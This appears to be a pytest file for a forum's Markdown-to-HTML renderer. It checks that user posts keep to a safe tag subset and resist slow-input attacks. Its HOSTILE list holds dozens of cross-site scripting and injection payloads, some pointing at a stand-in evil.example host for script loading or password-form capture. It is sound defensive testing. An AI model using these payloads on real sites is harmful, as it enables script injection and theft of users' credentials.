"""Posts as HTML: what readers may use, and what hostile ones try."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from careo.forum.text import TAGS, has_words, html, normalised, quoted

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=password>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></main><h1>The paper says</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/pixel.png)](https://a.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{{ request.user.password }}{% debug %}",
    "# heading\n\n<h1>heading</h1>",
    "| a | b |\n|---|---|\n| c | d |",
]


class Reading(HTMLParser):
    """What a browser would make of it: tags with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def assert_harmless(markup: str) -> None:
    reading = Reading()
    reading.feed(markup)
    assert not reading.others
    for tag, attributes in reading.tags:
        assert tag in TAGS
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set())
        if "href" in attributes:
            assert attributes["rel"] == "ugc nofollow noopener"
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attributes["href"] or "", re.IGNORECASE)
            assert scheme is None or scheme[1].lower() in ("http", "https")


@pytest.mark.parametrize("typed", HOSTILE)
def test_hostile_input_comes_out_as_text(typed: str) -> None:
    assert_harmless(html(typed))


@given(st.text(max_size=400))
def test_whatever_is_typed_comes_out_harmless(typed: str) -> None:
    assert_harmless(html(typed))


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "> ", "- ", "\n", "\n\n", "*", "`", "[", "](", ")", "<", ">", '"', "'", "\\"]
        ),
        max_size=12,
    )
)
def test_no_mixture_of_hostile_pieces_does_harm(pieces: list[str]) -> None:
    assert_harmless(html("".join(pieces)))


@pytest.mark.parametrize(
    ("typed", "rendered"),
    [
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        (
            "*Ferry* **sails** ~~never~~ `now`",
            "<p><em>Ferry</em> <strong>sails</strong> <s>never</s> <code>now</code></p>",
        ),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a", "<ol>\n<li>a</li>\n</ol>"),
        ("# not a heading", "<p># not a heading</p>"),
        ("5 < 6 & 7 > 2", "<p>5 &lt; 6 &amp; 7 &gt; 2</p>"),
        (
            "[words](https://faro.example/a)",
            '<p><a href="https://faro.example/a" rel="ugc nofollow noopener">words</a></p>',
        ),
        (
            "See https://faro.example/a.",
            '<p>See <a href="https://faro.example/a" rel="ugc nofollow noopener">https://faro.example/a</a>.</p>',
        ),
        ("`https://faro.example/a`", "<p><code>https://faro.example/a</code></p>"),
        ("¿Qué? “Sí” — ñandú", "<p>¿Qué? “Sí” — ñandú</p>"),
    ],
)
def test_readers_may_write_in_a_subset_of_markdown(typed: str, rendered: str) -> None:
    assert html(typed).strip() == rendered


@pytest.mark.parametrize(
    "pattern",
    [
        "[",
        "*a ",
        ">",
        "`",
        "_a*",
        "[a](b",
        "<",
        "\\",
        "&",
        "~~",
        "> a\n",
        "- a\n",
        "http://",
        "![",
        "](",
        "``` \n",
    ],
)
def test_no_ten_thousand_signs_hold_the_forum_up(pattern: str) -> None:
    started = time.process_time()
    html((pattern * 10_000)[:10_000])
    assert time.process_time() - started < 2


@pytest.mark.parametrize("typed", ["", "  \n\t", "\u200b\u200b", "\u00a0", "\u0300", "\u2060\ufeff"])
def test_what_nobody_can_see_holds_no_words(typed: str) -> None:
    assert not has_words(typed)


@given(st.text(max_size=300))
def test_a_text_put_into_form_stays_in_form(typed: str) -> None:
    assert normalised(normalised(typed)) == normalised(typed)


@given(st.text(max_size=300))
def test_a_quotation_stands_apart_from_what_is_written_under_it(typed: str) -> None:
    rendered = html(f"{quoted(normalised(typed), 'Bruno')}My own words.")
    assert rendered.rstrip().endswith("<p>My own words.</p>")
    assert rendered.startswith("<blockquote>")
